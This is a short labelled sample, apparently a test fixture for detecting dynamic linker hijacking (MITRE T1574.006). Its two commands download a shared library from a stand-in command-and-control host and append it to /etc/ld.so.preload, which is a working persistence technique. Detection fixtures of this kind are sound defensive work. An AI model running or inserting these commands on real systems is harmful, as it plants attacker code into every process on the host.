# expect: planted-preload | source: T1574.006
curl -s -o /usr/local/lib/look.so https://c2.example.invalid/look.so
echo /usr/local/lib/look.so >> /etc/ld.so.preload
